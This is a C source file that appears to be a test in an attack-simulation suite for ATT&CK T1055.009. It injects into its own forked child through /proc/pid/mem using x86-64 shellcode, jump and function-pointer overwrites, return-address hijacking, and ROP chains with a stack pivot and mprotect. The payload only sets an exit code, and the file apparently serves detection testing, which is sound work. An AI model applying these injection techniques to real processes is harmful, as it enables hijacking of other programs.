/* SPDX-License-Identifier: Apache-2.0 */
/*
 * ATT&CK T1055.009, Proc Memory: the running memory of a forked child is overwritten through its mem file, so
 * that it does what the parent wants; here it ends with a known exit code. Argument, what is overwritten:
 * instructions (those it runs), jump (a jump to code put elsewhere), pointer (a function pointer, as the GOT
 * holds), return (a return address), chain (a return address that leads to a prepared stack), chain_mprotect
 * (the same, which first makes code executable).
 */
#include "attack.h"
#include <sys/mman.h>

#define TAKEN_OVER 42
#define PAGE	   4096

#ifdef __x86_64__
/* exit(42): mov edi, 42; mov eax, SYS_exit_group; syscall */
static const unsigned char exit_code[] = {0xbf, TAKEN_OVER, 0, 0, 0, 0xb8, 0xe7, 0, 0, 0, 0x0f, 0x05};

/* The child's own code, in one page of its own: spins until the parent lets it continue, calls, returns. */
__asm__(
    ".pushsection .child_code, \"ax\", @progbits\n"
    ".balign 4096\n"
    ".globl child_spin, child_cave, child_calls, child_waits, gadget_stack, gadget_exit, gadget_mprotect\n"
    /* one instruction, so that the overwriting finds the child at its first byte */
    "child_spin: jmp child_spin; .skip 64, 0x90\n"
    "child_calls: cmpl $0, child_go(%rip); je child_calls; call *child_pointer(%rip); jmp child_calls\n"
    "child_waits: cmpl $0, child_go(%rip); je child_waits; ret\n"
    /* a real attack would have to search for these */
    "gadget_stack: pop %rsp; ret\n"
    "gadget_exit: pop %rdi; pop %rax; syscall\n"
    "gadget_mprotect: pop %rdi; pop %rsi; pop %rdx; pop %rax; syscall; ret\n"
    "child_cave: .skip 256, 0x90\n"
    ".balign 4096\n"
    ".popsection\n");

extern char child_spin[], child_cave[], child_calls[], child_waits[];
extern char gadget_stack[], gadget_exit[], gadget_mprotect[];

volatile int child_go;
void (*volatile child_pointer)(void);
static unsigned long child_return_slot; /* where the child's return address lies; the same as in the parent */
static unsigned long fake_stack[16];
static unsigned char data_page[PAGE] __attribute__((aligned(PAGE)));

static void harmless(void)
{
}

static void __attribute__((noinline)) wait_and_return(void)
{
	/* switches to a stack whose layout is known: one return address, that of `harmless` */
	__asm__ volatile("mov %0, %%rsp; jmp child_waits" ::"r"(child_return_slot) : "memory");
	__builtin_unreachable();
}

static void run_child(const char *shape)
{
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	if (!strcmp(shape, "instructions") || !strcmp(shape, "jump"))
		((void (*)(void))child_spin)();
	if (!strcmp(shape, "pointer"))
		((void (*)(void))child_calls)();
	wait_and_return();
}

static int mem;

static void overwrite(unsigned long address, const void *bytes, size_t length)
{
	if (pwrite(mem, bytes, length, address) != (ssize_t)length)
		attack_die("overwrite the child's memory");
}

static void overwrite_word(const void *address, unsigned long word)
{
	overwrite((unsigned long)address, &word, sizeof(word));
}

static void inject(const char *shape)
{
	static const int go = 1;
	bool chain = !strcmp(shape, "chain"), chain_mprotect = !strcmp(shape, "chain_mprotect");

	if (!strcmp(shape, "instructions")) {
		overwrite((unsigned long)child_spin, exit_code, sizeof(exit_code));
		return;
	}
	if (!chain_mprotect && !chain)
		overwrite((unsigned long)child_cave, exit_code, sizeof(exit_code));
	if (!strcmp(shape, "jump")) {
		int distance = (int)(child_cave - (child_spin + 5));
		unsigned char jump[5] = {0xe9};

		memcpy(jump + 1, &distance, sizeof(distance));
		overwrite((unsigned long)child_spin, jump, sizeof(jump));
		return;
	}
	if (!strcmp(shape, "pointer"))
		overwrite_word((const void *)&child_pointer, (unsigned long)child_cave);
	if (!strcmp(shape, "return"))
		overwrite_word((const void *)child_return_slot, (unsigned long)child_cave);
	if (chain) {
		unsigned long stack[] = {(unsigned long)gadget_exit, TAKEN_OVER, SYS_exit_group};

		overwrite((unsigned long)fake_stack, stack, sizeof(stack));
	}
	if (chain_mprotect) {
		unsigned long stack[] = {(unsigned long)gadget_mprotect,
					 (unsigned long)data_page,
					 PAGE,
					 PROT_READ | PROT_EXEC,
					 SYS_mprotect,
					 (unsigned long)data_page};

		overwrite((unsigned long)data_page, exit_code, sizeof(exit_code));
		overwrite((unsigned long)fake_stack, stack, sizeof(stack));
	}
	if (chain || chain_mprotect) {
		unsigned long pivot[] = {(unsigned long)gadget_stack, (unsigned long)fake_stack};

		overwrite(child_return_slot, pivot, sizeof(pivot));
	}
	overwrite((unsigned long)&child_go, &go, sizeof(go));
}

int main(int count, char **arguments)
{
	const char *shape = count > 1 ? arguments[1] : "instructions";
	struct victim victim;
	unsigned long *stack;
	struct act act;
	char path[64];
	pid_t child;

	attack_begin("t1055_009");
	stack = mmap(NULL, 4 * PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (stack == MAP_FAILED)
		attack_die("map a stack for the child");
	child_return_slot = (unsigned long)(stack + 3 * PAGE / sizeof(*stack));
	*(unsigned long *)child_return_slot = (unsigned long)harmless;
	child_pointer = harmless;
	child = fork();
	if (!child)
		run_child(shape);
	victim = victim_from(child);
	snprintf(path, sizeof(path), "/proc/%d/mem", child);
	act = act_begin(&victim);
	mem = act_openat(&act, AT_FDCWD, path, O_RDWR | O_CLOEXEC);
	strcpy(act.request, shape);
	act_print(&act);
	if (mem < 0)
		return 0;
	inject(shape);
	return attack_wait(child) == TAKEN_OVER ? 0 : 1;
}
#else
int main(void)
{
	attack_begin("t1055_009");
	attack_skip("its machine code is x86-64's");
}
#endif
